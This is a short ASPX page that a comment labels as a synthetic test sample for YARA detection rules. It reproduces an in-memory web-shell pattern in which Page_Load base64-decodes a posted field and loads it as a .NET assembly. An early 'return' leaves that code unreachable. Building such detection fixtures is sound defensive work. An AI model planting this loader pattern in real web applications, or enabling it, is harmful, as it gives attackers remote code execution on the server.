<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%-- Vigil YARA test sample: synthetic; Page_Load returns first. --%>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    if (true) return;
    byte[] b = Convert.FromBase64String(Request.Form["d"]);
    System.Reflection.Assembly.Load(b).CreateInstance("X").Equals(this);
}
</script>
